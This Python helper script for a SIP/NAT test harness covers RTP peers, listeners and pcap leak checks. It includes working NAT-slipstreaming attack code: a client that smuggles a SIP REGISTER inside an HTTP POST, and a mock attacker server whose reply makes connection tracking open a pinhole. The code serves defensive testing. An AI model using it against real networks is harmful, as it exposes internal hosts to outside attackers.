#!/usr/bin/env python3
"""Small network helpers for the transparent-mode harness (harness.sh).

peer      bind a UDP socket, count (and optionally echo) what arrives, optionally send
          RTP-like packets to an address read from a file once it appears
listen    count TCP connections and UDP datagrams on a port (slipstreaming check)
slip      NAT-slipstreaming client: HTTP POST whose second TCP segment is a REGISTER
slipsrv   the attacker's server on TCP 5060 answering the smuggled REGISTER with 200 OK
knock     send UDP datagrams and try TCP connections to an address (from outside)
leak      search a pcap for an office address (IP headers and payload text)
sources   list the source addresses of datagrams a pcap shows going to the phones
"""
import json
import os
import select
import socket
import struct
import sys
import time


def addr(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def rtp_packet(seq, ssrc=0x5157):
    # version 2, PCMU, 160 bytes of u-law silence
    return struct.pack("!BBHII", 0x80, 0, seq & 0xFFFF, seq * 160, ssrc) + b"\xff" * 160


def wait_file(path, deadline):
    while time.time() < deadline:
        try:
            with open(path) as f:
                text = f.read().split()
            if len(text) >= 2:
                return text[0], int(text[1])
        except (OSError, ValueError):
            pass
        time.sleep(0.02)
    return None


def peer(args):
    """peer BIND DURATION OUT [--echo] [--send-file F|--send-to IP:PORT] [--count N]
    [--delay S] [--extra-bind IP:PORT]"""
    bind, duration, out = addr(args[0]), float(args[1]), args[2]
    opts = args[3:]
    echo = "--echo" in opts

    def opt(name, default=None):
        return opts[opts.index(name) + 1] if name in opts else default

    send_file, send_to = opt("--send-file"), opt("--send-to")
    count, delay = int(opt("--count", "10")), float(opt("--delay", "0"))
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
    socks[0].bind(bind)
    extra = opt("--extra-bind")
    if extra:
        socks.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        socks[1].bind(addr(extra))
    start = time.time()
    end = start + duration
    received, sources, sent, target = 0, {}, 0, None
    if send_to:
        target = addr(send_to)
    next_send = None
    while time.time() < end:
        if target is None and send_file:
            target = wait_file(send_file, time.time() + 0.001) if os.path.exists(send_file) else None
        if target is not None and next_send is None:
            next_send = time.time() + delay
        now = time.time()
        if next_send is not None and sent < count and now >= next_send:
            try:
                socks[0].sendto(rtp_packet(sent), target)
            except OSError:
                pass
            sent += 1
            next_send = now + 0.02
        timeout = 0.01
        ready, _, _ = select.select(socks, [], [], timeout)
        for s in ready:
            data, src = s.recvfrom(4096)
            received += 1
            key = "%s:%d>%d" % (src[0], src[1], s.getsockname()[1])
            sources[key] = sources.get(key, 0) + 1
            if echo:
                s.sendto(data, src)
    with open(out, "w") as f:
        json.dump({"received": received, "sent": sent, "sources": sources,
                   "target": "%s:%d" % target if target else None}, f)


def listen(args):
    """listen IP:PORT DURATION OUT: counts TCP connections and UDP datagrams."""
    bind, duration, out = addr(args[0]), float(args[1]), args[2]
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(bind)
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(bind)
    t.listen(8)
    end = time.time() + duration
    got = []
    while time.time() < end:
        ready, _, _ = select.select([u, t], [], [], 0.05)
        for s in ready:
            if s is u:
                _, src = u.recvfrom(4096)
                got.append("udp from %s:%d" % src)
            else:
                c, src = t.accept()
                got.append("tcp from %s:%d" % src)
                c.close()
    with open(out, "w") as f:
        json.dump(got, f)


def register_text(phone, port, proxy):
    return ("REGISTER sip:%s SIP/2.0\r\n"
            "Via: SIP/2.0/TCP %s:5060;branch=z9hG4bKslip1\r\n"
            "From: <sip:slip@%s>;tag=slip1\r\n"
            "To: <sip:slip@%s>\r\n"
            "Call-ID: slipstream-1@%s\r\n"
            "CSeq: 1 REGISTER\r\n"
            "Contact: <sip:slip@%s:%d;transport=TCP>\r\n"
            "Expires: 600\r\n"
            "Content-Length: 0\r\n\r\n") % (proxy, phone, proxy, proxy, phone, phone, port)


def slip(args):
    """slip PHONE_IP PROXY_IP PORT: a browser-like HTTP POST to PROXY:5060 whose body is
    a REGISTER naming PHONE:PORT; the REGISTER starts its own TCP segment (as the MSS trick
    arranges) and the same text is also sent as the body of one UDP datagram."""
    phone, proxy, port = args[0], args[1], int(args[2])
    body = register_text(phone, port, proxy)
    head = ("POST /form HTTP/1.1\r\nHost: %s:5060\r\nContent-Type: text/plain\r\n"
            "Content-Length: %d\r\n\r\n") % (proxy, len(body))
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind((phone, 0))
    s.settimeout(3)
    try:
        s.connect((proxy, 5060))
        s.send(head.encode())
        time.sleep(0.3)  # the head is acknowledged before the body goes: two segments
        s.send(body.encode())
        time.sleep(0.5)
        try:
            s.recv(4096)
        except OSError:
            pass
    except OSError as e:
        print("slip tcp: %s" % e, file=sys.stderr)
    s.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((phone, 0))
    u.sendto((head + body).encode(), (proxy, 5060))
    u.close()


def slipsrv(args):
    """slipsrv IP DURATION: the attacker's web server on TCP 5060; answers a REGISTER
    found in the stream with a 200 OK listing its Contact (as the attack needs)."""
    ip, duration = args[0], float(args[1])
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((ip, 5060))
    t.listen(4)
    t.settimeout(duration)
    end = time.time() + duration
    try:
        c, _ = t.accept()
    except OSError:
        return
    c.settimeout(0.2)
    data = b""
    while not (b"REGISTER" in data and data.endswith(b"\r\n\r\n")):
        if time.time() >= end:
            return
        try:
            chunk = c.recv(4096)
        except socket.timeout:
            continue
        if not chunk:
            break
        data += chunk
    text = data.decode(errors="replace")
    reg = text[text.find("REGISTER"):]
    keep = [l for l in reg.split("\r\n")
            if l.split(":")[0] in ("Via", "From", "To", "Call-ID", "CSeq", "Contact")]
    # a registrar's 200 states the binding's lifetime; without one nf_conntrack_sip
    # drops the expectation the REGISTER created
    reply = ("SIP/2.0 200 OK\r\n" + "\r\n".join(keep) +
             "\r\nExpires: 600\r\nContent-Length: 0\r\n\r\n")
    c.send(reply.encode())
    time.sleep(0.5)
    c.close()


def knock(args):
    """knock SRC_IP DST_IP PORT: UDP datagrams and a TCP connection attempt."""
    src, dst, port = args[0], args[1], int(args[2])
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((src, 5060 if len(args) > 3 else 0))
    for _ in range(3):
        u.sendto(b"knock", (dst, port))
        time.sleep(0.05)
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.bind((src, 0))
    t.settimeout(1)
    try:
        t.connect((dst, port))
        print("tcp connected")
    except OSError:
        pass


def packets(path, t0, t1):
    """(time, src, dst, proto, sport, dport, ip header+payload bytes, l4 payload) for each
    IPv4 packet of an Ethernet pcap between t0 and t1."""
    with open(path, "rb") as f:
        data = f.read()
    if len(data) < 24:
        return
    magic = struct.unpack("<I", data[:4])[0]
    endian = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    nano = magic in (0xA1B23C4D, 0x4D3CB2A1)
    link = struct.unpack(endian + "I", data[20:24])[0]
    off = 24
    while off + 16 <= len(data):
        sec, frac, incl, _ = struct.unpack(endian + "IIII", data[off:off + 16])
        off += 16
        frame = data[off:off + incl]
        off += incl
        ts = sec + frac / (1e9 if nano else 1e6)
        if ts < t0 or ts > t1:
            continue
        if link == 1:
            if len(frame) < 14 or frame[12:14] != b"\x08\x00":
                continue
            ip = frame[14:]
        elif link == 113:  # Linux cooked capture
            if len(frame) < 16 or frame[14:16] != b"\x08\x00":
                continue
            ip = frame[16:]
        else:
            continue
        if len(ip) < 20 or ip[0] >> 4 != 4:
            continue
        ihl = (ip[0] & 15) * 4
        proto = ip[9]
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        l4 = ip[ihl:]
        sport = dport = 0
        payload = b""
        if proto == 17 and len(l4) >= 8:
            sport, dport = struct.unpack("!HH", l4[:4])
            payload = l4[8:]
        elif proto == 6 and len(l4) >= 20:
            sport, dport = struct.unpack("!HH", l4[:4])
            payload = l4[(l4[12] >> 4) * 4:]
        yield ts, src, dst, proto, sport, dport, ip, payload


def leak(args):
    """leak PCAP T0 T1 PREFIX: counts packets whose addresses or payload text carry an
    office address (PREFIX such as 10.10.0.) and names where (header names, SDP lines);
    exit 1 when there is one."""
    path, t0, t1, prefix = args[0], float(args[1]), float(args[2]), args[3]
    found, total, fields, example = 0, 0, [], None
    for ts, src, dst, proto, sport, dport, _, payload in packets(path, t0, t1):
        total += 1
        where = []
        if src.startswith(prefix) or dst.startswith(prefix):
            where.append("IP header")
        if prefix.encode() in payload:
            for line in payload.split(b"\r\n"):
                if prefix.encode() in line:
                    text = line.decode(errors="replace")
                    name = text[:2] if text[1:2] == "=" else text.split(":")[0][:20]
                    where.append(name)
        if where:
            found += 1
            example = example or "%s:%d > %s:%d" % (src, sport, dst, dport)
            for w in where:
                if w not in fields:
                    fields.append(w)
    if found:
        print("%d/%d packets carry %s (in %s; e.g. %s)" % (found, total, prefix,
                                                        ", ".join(fields), example))
    print("packets=%d leaking=%d" % (total, found))
    sys.exit(1 if found else 0)


def sources(args):
    """sources PCAP T0 T1 PREFIX PORT: source address:port of every UDP datagram to an
    office address (PREFIX) on PORT; prints counts per source."""
    path, t0, t1, prefix, port = args[0], float(args[1]), float(args[2]), args[3], int(args[4])
    seen = {}
    for ts, src, dst, proto, sport, dport, _, _ in packets(path, t0, t1):
        if proto == 17 and dst.startswith(prefix) and dport == port and not src.startswith(prefix):
            key = "%s:%d" % (src, sport)
            seen[key] = seen.get(key, 0) + 1
    print(json.dumps(seen))


if __name__ == "__main__":
    commands = {"peer": peer, "listen": listen, "slip": slip, "slipsrv": slipsrv,
                "knock": knock, "leak": leak, "sources": sources}
    if len(sys.argv) < 2 or sys.argv[1] not in commands:
        print(__doc__)
        sys.exit(2)
    commands[sys.argv[1]](sys.argv[2:])
